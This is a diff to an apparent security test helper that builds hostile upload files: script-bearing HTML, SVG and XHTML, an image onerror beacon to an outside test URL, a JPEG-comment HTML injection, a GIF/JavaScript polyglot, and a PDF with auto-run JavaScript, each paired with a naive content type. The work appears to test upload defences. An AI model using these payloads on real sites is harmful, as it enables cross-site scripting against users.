@@ -78,9 +78,12 @@ const attack = (elsewhere, name) => `
 /** Hostile files by name: bytes, what a naive server would call them, and how the naive one is made to run. */
 async function hostile(elsewhere, darkroom) {
   const script = (name) => `<script>${attack(elsewhere, name)}</script>`;
-  const html = (name) => Buffer.from(`<!doctype html><html><head><title>x</title></head><body onload="1">${script(name)}<img src=x onerror="new Image().src='${elsewhere.url}/reached/${name}'"></body></html>`);
-  const svg = (name) => Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>${attack(elsewhere, name).replaceAll('=>', '=&gt;')}</script><rect width="10" height="10"/></svg>`);
-  const xhtml = (name) => Buffer.from(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body><script><![CDATA[${attack(elsewhere, name)}]]></script></body></html>`);
+  const html = (name) => Buffer.from(`<!doctype html><html><head><title>x</title></head><body>${script(name)}
+    <img src=x onerror="new Image().src='${elsewhere.url}/reached/${name}'"></body></html>`);
+  const svg = (name) => Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">
+    <script>${attack(elsewhere, name).replaceAll('=>', '=&gt;')}</script><rect width="10" height="10"/></svg>`);
+  const xhtml = (name) => Buffer.from(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head>
+    <body><script><![CDATA[${attack(elsewhere, name)}]]></script></body></html>`);
   const jpeg = await darkroom.make({ width: 64, height: 48 });
   const comment = (name) => {
     const text = Buffer.from(`--><html><body>${script(name)}<!--`);
@@ -97,8 +100,14 @@ async function hostile(elsewhere, darkroom) {
       Buffer.from([0, 0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 1, 0, 0x3b]),
     ]);
   };
-  const gifScript = (name) => Buffer.concat([Buffer.from('GIF89a/*'), Buffer.from([0x80, 0, 0, 200, 0, 0, 0, 0, 200]), Buffer.from(`*/=1;${attack(elsewhere, name)}`)]);
-  const pdf = (name) => Buffer.from(`%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert("${name}"\\))>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`);
+  const gifScript = (name) => Buffer.concat([
+    Buffer.from('GIF89a/*'), Buffer.from([0x80, 0, 0, 200, 0, 0, 0, 0, 200]), Buffer.from(`*/=1;${attack(elsewhere, name)}`),
+  ]);
+  const pdf = (name) => Buffer.from([
+    '%PDF-1.7', `1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\("${name}"\\))>>>>endobj`,
+    '2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj', '3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>endobj',
+    'trailer<</Root 1 0 R>>', '%%EOF', '',
+  ].join('\n'));
   return [
     { name: 'page.html', make: html, naive: 'text/html' },
     { name: 'photo.jpg', make: html, naive: 'text/html', says: 'image/jpeg' },
